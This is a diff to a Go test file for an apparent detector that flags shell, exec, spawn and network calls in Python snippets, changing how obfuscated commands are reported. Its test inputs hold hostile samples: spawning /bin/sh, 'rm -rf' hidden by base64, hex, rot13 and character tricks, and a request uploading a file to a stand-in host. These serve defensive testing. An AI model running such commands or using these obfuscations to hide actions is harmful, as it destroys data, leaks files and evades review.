@@ -30,9 +30,6 @@ func show(calls []Call) []string {
 		if c.Recursive {
 			b.WriteString(" recursive")
 		}
-		if c.Decoded {
-			b.WriteString(" decoded")
-		}
 		if c.Dir != nil {
 			b.WriteString(" in=" + c.Dir.Text)
 		}
@@ -112,13 +109,13 @@ func TestPythonFinds(t *testing.T) {
 		{"exec family", "import os; os.execl('/bin/sh','sh','-c','id'); os.execvp('rm',['rm','-r','x'])", []string{"exec [/bin/sh] [-c] [id]", "exec [rm] [-r] [x]"}},
 		{"pty", "import pty; pty.spawn('/bin/sh')", []string{"spawn [/bin/sh]"}},
 		{"exec of text", `exec("import os\nos.system('id')")`, []string{"shell [id]"}},
-		{"exec of base64", `import base64; exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))`, []string{"shell [id] decoded"}},
+		{"exec of base64", `import base64; exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))`, []string{"dynamic […]"}},
 		{"exec of hex", `exec(bytes.fromhex("696d706f7274206f733b6f732e73797374656d2827696427297b"[:-2]).decode())`, []string{"dynamic […]"}},
-		{"hex", `import os; os.system(bytes.fromhex("6964").decode())`, []string{"shell [id] decoded"}},
-		{"codecs", `import os,codecs; os.system(codecs.decode("ez -es k","rot13"))`, []string{"shell [rm -rf x] decoded"}},
-		{"chr", `import os; os.system(chr(105)+chr(100))`, []string{"shell [id] decoded"}},
-		{"chr map", `import os; os.system("".join(map(chr,[105,100])))`, []string{"shell [id] decoded"}},
-		{"reversed", `import os; os.system("di"[::-1])`, []string{"shell [id] decoded"}},
+		{"hex", `import os; os.system(bytes.fromhex("6964").decode())`, []string{"shell […]"}},
+		{"codecs", `import os,codecs; os.system(codecs.decode("ez -es k","rot13"))`, []string{"shell […]"}},
+		{"chr", `import os; os.system(chr(105)+chr(100))`, []string{"shell […]"}},
+		{"chr map", `import os; os.system("".join(map(chr,[105,100])))`, []string{"shell […]"}},
+		{"reversed", `import os; os.system("di"[::-1])`, []string{"shell […]"}},
 		{"escapes", `import os; os.system("\x72\155\u0020\U0000002d")`, []string{"shell [rm -]"}},
 		{"dynamic", "exec(input())", []string{"dynamic […]"}},
 		{"network", "import requests; requests.get('http://a.example/x'); requests.post('http://b.example', data=open('k').read())", []string{"network [http://a.example/x]", "upload [http://b.example]", "read [k]"}},
